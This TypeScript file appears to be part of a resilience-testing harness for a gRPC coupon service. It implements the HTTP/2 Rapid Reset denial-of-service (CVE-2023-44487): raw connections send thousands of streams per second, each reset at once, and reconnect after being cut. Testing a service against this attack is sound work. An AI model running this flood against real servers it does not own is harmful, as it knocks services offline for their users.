import { setTimeout as sleep } from "node:timers/promises";
import { IssueCouponRequestSchema } from "../../../gen/coupon/v1/issuance_service_pb.js";
import { issueMethod } from "../../rows/coupons.js";
import { encode } from "../../support/api.js";
import { callHeaders, code, flag, frame, frameType, RawConnection, rstStream } from "../frames.js";
import { cut } from "../outcomes.js";
import type { Field, Weapon } from "../weapon.js";

/** Rapid reset (CVE-2023-44487): calls that are reset in the same breath, each of which the server has to begin. */

const connections = 4;
const resetsPerSecond = 21_000;
const roundMs = 10;
const maxWaitingBytes = 1_024 * 1_024;
/** A whole call, so that the work on it is begun before it is given up. */
const body = encode(IssueCouponRequestSchema, {
  target: { case: "couponId", value: crypto.randomUUID() },
  userId: "x",
});
const message = Buffer.concat([Buffer.from([0, 0, 0, 0, body.length]), body]);
/** Before a connection that was cut is opened again. */
const reconnectMs = 100;

export const rapidReset: Weapon = {
  name: "rapid-reset",
  what: `native gRPC: ${resetsPerSecond} streams a second over ${connections} connections, each a whole call that is reset at once`,
  async fire(field) {
    await field.begin();
    const sent = await Promise.all(Array.from({ length: connections }, () => lane(field)));
    const all = sent.reduce((sum, one) => sum + one, 0);
    field.note(`${all} streams were reset`);
  },
};

async function lane(field: Field): Promise<number> {
  const headers = callHeaders(issueMethod, "application/grpc");
  const each = Math.round((resetsPerSecond / connections / 1_000) * roundMs);
  let sent = 0;
  while (Date.now() < field.untilMs) {
    let isCut = false;
    const connection = await RawConnection.open(field.grpcPort, ({ type }) => {
      // Node reads on without a look at what it reads, and does not close the connection.
      isCut ||= type === frameType.goaway;
    }).catch(() => undefined);
    let streamId = 1;
    while (connection?.isOpen && !isCut && Date.now() < field.untilMs) {
      if (connection.waitingBytes < maxWaitingBytes) {
        connection.write(
          Buffer.concat(Array.from({ length: each }, (_, index) => reset(streamId + 2 * index, headers))),
        );
        streamId += 2 * each;
        sent += each;
      }
      await sleep(roundMs);
    }
    if (!connection?.isOpen || isCut) field.tally.add(cut);
    connection?.destroy();
    await sleep(reconnectMs);
  }
  return sent;
}

function reset(streamId: number, headers: Uint8Array): Buffer {
  return Buffer.concat([
    frame(frameType.headers, flag.endHeaders, streamId, headers),
    frame(frameType.data, flag.endStream, streamId, message),
    rstStream(streamId, code.cancel),
  ]);
}
